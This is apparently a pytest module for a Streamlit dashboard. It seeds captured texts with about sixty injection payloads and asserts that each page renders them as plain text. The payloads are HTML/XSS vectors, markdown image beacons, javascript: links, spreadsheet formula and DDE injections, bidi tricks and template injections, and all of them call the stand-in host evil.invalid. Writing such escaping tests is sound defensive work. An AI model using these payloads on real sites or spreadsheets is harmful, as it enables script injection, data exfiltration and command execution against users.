"""S8-24: texts that try to become markup, a link, an image or a formula, on every page that shows captured words."""

from pathlib import Path

import pytest

from harness.store.database import open_db
from tests.dashboard.a_run import a_run
from tests.dashboard.conftest import Visit, one_run, visit

__all__ = ["one_run", "visit"]  # fixtures

MARK = "evil.invalid"
URL = f"https://{MARK}/x"
_TEXTS = [
    # HTML
    f"<script src={URL}></script>", f"<img src={URL} onerror=alert(1)>", f"<svg onload=fetch('{URL}')>",
    f"<iframe src={URL}></iframe>", f"<a href='{URL}'>click</a>", f"<body onload=location='{URL}'>",
    f"<link rel=stylesheet href={URL}>", f"<style>@import '{URL}'</style>", f"<object data={URL}></object>",
    f"<video src={URL} autoplay>", f"<base href={URL}>", f"<form action={URL}><input></form>",
    f"<details open ontoggle=fetch('{URL}')>", f"<meta http-equiv=refresh content='0;{URL}'>",
    f"<math><mtext><img src={URL}></math>", f"<!--><img src={URL}>-->", f"<scr<script>ipt src={URL}>",
    f"&lt;img src={URL}&gt;", f"&#60;img src={URL}&#62;", f"\u003cimg src={URL}\u003e", f"<IMG SRC=JaVaScRiPt:{MARK}>",
    f"'\"><img src={URL}>", f"</script><img src={URL}>", f"<img\tsrc={URL}>", f"<img/src={URL}>",
    # Markdown and what Streamlit adds to it
    f"![seen]({URL})", f"[click]({URL})", f"[ref]: {URL}", f"![seen][1]\n\n[1]: {URL}", f"<{URL}>", URL,
    f"**bold** ![a]({URL})", f"# heading ![a]({URL})", f"| a |\n|---|\n| ![a]({URL}) |", f"- ![a]({URL})",
    f"> ![a]({URL})", f"```\n![a]({URL})\n```", f":red[![a]({URL})]", f":material/home: ![a]({URL})",
    f":smile: [a]({URL})", f"$\\href{{{URL}}}{{x}}$", f"$$\\includegraphics{{{URL}}}$$", f"![a](//{MARK}/x)",
    f"![a](data:text/html,{MARK})", f"[a](javascript:fetch('{URL}'))", f"[a](vbscript:{MARK})", f"\\![a]({URL})",
    # formulas of a spreadsheet
    f'=HYPERLINK("{URL}")', f'=IMPORTXML("{URL}","//a")', f"+cmd|' /C {MARK}'!A0", f"-2+3+cmd|' {MARK}'!A0",
    f'@SUM(1+1)*IMAGE("{URL}")', f'\t=IMAGE("{URL}")', f'\r=WEBSERVICE("{URL}")', f'%0A=IMAGE("{URL}")',
    # what hides or turns words around
    f"\u202e{URL}\u202c", f"\u2066![a]({URL})\u2069", f"\u200b![a]({URL})", f"a\u0000![a]({URL})",
    f"\x1b]8;;{URL}\x07x",
    f"{{{{constructor.constructor('fetch(\"{URL}\")')()}}}}", f"${{fetch('{URL}')}}", f"{{% include '{URL}' %}}",
]  # fmt: skip
TEXTS = tuple(text.replace("\0", "\ufffd") for text in _TEXTS)  # no capture holds a NUL: reading one refuses it
PAGES = ("pairs", "failures", "verdict", "latency")
# Everything that reads what it is given as markup; words go to `text`, `code` and tables, which read nothing.
MARKUP = ("markdown", "caption", "title", "header", "subheader", "latex", "html", "error", "warning", "info", "success")


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run in which every capture says another of the texts, in every field that strangers fill."""
    folder = tmp_path_factory.mktemp("hostile")
    run = a_run(folder, captures=len(TEXTS) // 3 + 1, failures=0.4)
    run.database.chmod(0o644)
    with open_db(run.database, read_only=False) as database:
        ids = [row[0] for row in database.execute("SELECT capture_id FROM captures ORDER BY capture_id").fetchall()]
        for number, capture_id in enumerate(ids):
            text = TEXTS[number % len(TEXTS)]
            database.execute(
                "UPDATE captures SET text = ?, voice_id = ? WHERE capture_id = ?", [text, text, capture_id]
            )
            database.execute(
                "UPDATE exchanges SET detail = ? WHERE capture_id = ? AND outcome != 'ok'", [text, capture_id]
            )
    return folder


def shown_as_markup(app: object) -> list[str]:
    return [
        f"{kind}: {element.value}"
        for kind in MARKUP
        for element in getattr(app, kind, None) or app.get(kind)  # type: ignore[attr-defined]  # AppTest names most kinds
        if MARK in str(getattr(element, "value", ""))
    ]


@pytest.mark.parametrize("page", PAGES)
def test_sixty_hostile_texts_are_shown_letter_by_letter(visit: Visit, home: Path, page: str) -> None:
    app = visit(page, home=home)

    assert not app.exception
    assert shown_as_markup(app) == []
    assert not app.get("html")
    assert not app.get("iframe")


def test_every_one_of_them_is_there_to_be_shown(visit: Visit, home: Path) -> None:
    listed = set(visit("pairs", home=home).dataframe[0].value["text"])

    assert len({text for text in TEXTS if any(text[:20] in str(each) for each in listed)}) >= 50


def test_there_are_sixty_and_no_two_alike() -> None:
    assert len(set(TEXTS)) == len(TEXTS) >= 60
    assert all(MARK in text for text in TEXTS)
